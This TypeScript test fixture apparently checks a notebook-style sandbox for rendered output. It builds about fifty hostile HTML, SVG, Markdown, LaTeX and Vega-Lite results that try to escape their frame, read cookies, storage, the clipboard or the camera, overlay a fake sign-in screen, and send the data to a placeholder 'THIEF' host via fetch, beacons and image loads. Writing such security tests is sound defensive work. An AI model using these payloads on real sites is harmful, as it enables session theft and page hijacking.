// Results that try to get out of their frame, or to pass for the page. What they would reach is told to `thief`, an
// address that is not the page's: whoever gets there has got out.

export type HostileResult = { name: string; mime: string; body: string };

/** Tells the thief, in every way that a script has. `WHAT`: an expression. */
const tell = (what: string) =>
  `(() => { let w; try { w = String(${what}) } catch (e) { return }
    try { fetch("THIEF/fetch?" + encodeURIComponent(w), { mode: "no-cors" }) } catch (e) {}
    try { navigator.sendBeacon("THIEF/beacon", w) } catch (e) {}
    try { new Image().src = "THIEF/image?" + encodeURIComponent(w) } catch (e) {} })()`;
const script = (code: string) => `<p>harmless</p><script>${code}</script>`;
const html = (name: string, body: string): HostileResult => ({ name, mime: "text/html", body });
const markdown = (name: string, body: string): HostileResult => ({ name, mime: "text/markdown", body });
const svg = (name: string, inside: string): HostileResult => ({
  ...{ name, mime: "image/svg+xml" },
  body: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"><rect width="40" height="40"/>${inside}</svg>`,
});
const chart = (name: string, specification: object): HostileResult => ({
  ...{ name, mime: "application/vnd.vegalite.v6+json" },
  body: JSON.stringify({ data: { values: [{ a: 1 }] }, mark: "point", ...specification }),
});

export const hostileResults: HostileResult[] = [
  html("a script that calls", script(tell("'hello'"))),
  html("an image's error handler", `<p>harmless</p><img src="data:," onerror='${tell("'error'")}'>`),
  html("cookies", script(tell("document.cookie + '!'"))),
  html("local storage", script(tell("Object.keys(localStorage)"))),
  html("session storage", script(tell("Object.keys(sessionStorage)"))),
  html("a database of the browser", script(`indexedDB.databases().then((all) => ${tell("JSON.stringify(all)")})`)),
  html("the page's document", script(`parent.document.body.dataset.pwned = "yes"; ${tell("parent.document.body")}`)),
  html("the page's window", script(`top.pwned = true; ${tell("top.pwned")}`)),
  html("the page's address", script('top.location = "THIEF/top"')),
  html("the page's address by name", script('window.open("THIEF/named", "_top")')),
  html("a link to the top", '<a href="THIEF/link" target="_top">click me</a>'),
  html("a link with a script", `<a href='javascript:${tell("parent.document.title")}' target="_top">click me</a>`),
  html("a popup", script('window.open("THIEF/popup")')),
  html("a popup by a link", '<a href="THIEF/blank" target="_blank">click me</a>'),
  html(
    "a form",
    '<form action="THIEF/form" method="post"><button>click me</button></form><script>document.forms[0].submit()</script>',
  ),
  html(
    "a form to the page's own origin",
    '<form action="/api/agent/hello" method="post" target="_top"><button>click me</button></form><script>document.forms[0].submit()</script>',
  ),
  html("dialogs", script('alert("pwned"); confirm("pwned"); prompt("pwned")')),
  html("its own frame's address", script('location.href = "THIEF/frame"')),
  html("a refresh", '<p>harmless</p><meta http-equiv="refresh" content="0; url=THIEF/refresh">'),
  html("another base", '<base href="THIEF/"><img src="based.png"><p>harmless</p>'),
  html("a style sheet from elsewhere", '<link rel="stylesheet" href="THIEF/style.css"><p>harmless</p>'),
  html(
    "a style that fetches",
    '<style>p { background: url("THIEF/background.png") } @import "THIEF/import.css";</style><p>harmless</p>',
  ),
  html("a script from elsewhere", '<script src="THIEF/script.js"></script><p>harmless</p>'),
  html("a module from elsewhere", '<script type="module">import "THIEF/module.js"</script><p>harmless</p>'),
  html("a frame within", '<iframe src="THIEF/inner" width="50" height="50"></iframe><p>harmless</p>'),
  html(
    "a frame with a text of its own",
    `<iframe srcdoc="<script>parent.parent.document.body.dataset.pwned='yes'</script>"></iframe><p>harmless</p>`,
  ),
  html("an object", '<object data="THIEF/object"></object><embed src="THIEF/embed"><p>harmless</p>'),
  html("a socket", script('new WebSocket("THIEF/socket".replace("http", "ws"))')),
  html("events from elsewhere", script('new EventSource("THIEF/events")')),
  html("a worker", script(`new Worker(URL.createObjectURL(new Blob(['fetch("THIEF/worker")'])))`)),
  html("a service worker", script('navigator.serviceWorker.register("/frame").then(() => { top.pwned = true })')),
  html(
    "the page's own interface",
    script(`fetch("/api/health").then((answer) => answer.text()).then((text) => ${tell("text")})`),
  ),
  html(
    "a cover over the page",
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in again</div>',
  ),
  html(
    "words of the page to its frame",
    script(
      'for (let n = 0; n < 2000; n += 1) parent.postMessage({ pinlight: "height", height: n % 2 ? 1e9 : -5 }, "*"); parent.postMessage({ pinlight: "show", html: "<script>top.pwned = true</script>" }, "*")',
    ),
  ),
  html("a frame without end", '<div style="height: 90000000px">harmless</div>'),
  html(
    "the clipboard and the camera",
    script(
      `navigator.clipboard.readText().then((text) => ${tell("text")}); navigator.mediaDevices?.getUserMedia({ video: true }).then(() => ${tell("'camera'")})`,
    ),
  ),
  html("the whole screen", script("document.documentElement.requestFullscreen().then(() => { parent.pwned = true })")),
  svg("a drawing's script", `<script>${tell("'svg'")}</script>`),
  svg(
    "a drawing's event",
    `<animate attributeName="x" dur="1s" onbegin='${tell("'svg'")}'/><image href="data:," onerror='${tell("'svg'")}'/>`,
  ),
  svg(
    "HTML in a drawing",
    `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="THIEF/foreign.png" onerror='${tell("'foreign'")}'/></body></foreignObject>`,
  ),
  svg(
    "a drawing that fetches",
    '<image href="THIEF/image.png" width="9" height="9"/><use xlink:href="THIEF/use.svg#x"/>',
  ),
  markdown(
    "HTML in Markdown",
    `harmless <img src=x onerror='top.pwned = true; ${tell("'markdown'")}'><script>top.pwned = true</script>`,
  ),
  markdown(
    "a link with a script in Markdown",
    "harmless [click me](javascript:top.pwned=true) <a href='javascript:top.pwned=true'>click me</a>",
  ),
  markdown("a picture from elsewhere in Markdown", "harmless ![picture](THIEF/markdown.png)"),
  markdown(
    "a frame in Markdown",
    'harmless <iframe src="THIEF/markdown"></iframe><form action="THIEF/form"><button>click me</button></form>',
  ),
  markdown(
    "styles and names in Markdown",
    '<div style="position:fixed;inset:0;background:red" id="main" class="bar">harmless</div>',
  ),
  {
    name: "a formula that links",
    mime: "text/latex",
    body: String.raw`$\href{javascript:top.pwned=true}{click\ me} \htmlId{main}{x} \includegraphics{THIEF/latex.png}$`,
  },
  chart("a chart that ends its script", {
    title: `</script><img src="data:," onerror='${tell("'chart'")}'><script>top.pwned = true</script><!--<script>`,
  }),
  chart("a chart that fetches", {
    data: { url: "THIEF/chart.json" },
    mark: "image",
    encoding: { url: { value: "THIEF/chart.png" }, href: { value: "javascript:top.pwned=true" } },
  }),
  chart("a chart's expressions", {
    transform: [{ calculate: "constructor.constructor('top.pwned = true')()", as: "b" }],
    params: [{ name: "c", expr: '[].constructor.constructor("top.pwned = true")()' }],
  }),
  chart("a chart's options", {
    usermeta: {
      embedOptions: { config: "THIEF/config.json", patch: "THIEF/patch.json", loader: { baseURL: "THIEF/" } },
    },
  }),
  { name: "a picture that is a page", mime: "image/png", body: btoa("<script>top.pwned = true</script>") },
  {
    name: "text that is a page",
    mime: "text/plain",
    body: "<script>top.pwned = true</script>\u001b]8;;javascript:top.pwned=true\u001b\\click me\u001b]8;;\u001b\\",
  },
];

/** A document that shows them, each as a block of its own, and one block that is as it should be. */
export function hostileDocument(thief: string): string {
  const head = [
    "class Show:",
    "    def __init__(self, mime, body):",
    "        self.bundle = {mime: body}",
    "    def _repr_mimebundle_(self, include=None, exclude=None):",
    "        return self.bundle",
  ].join("\n");
  const shows = hostileResults.map(
    ({ mime, body }) => `Show(${JSON.stringify(mime)}, ${JSON.stringify(body.replaceAll("THIEF", thief))})`,
  );
  return `${[head, ...shows, '"the last block is as it should be"'].join("\n\n")}\n`;
}
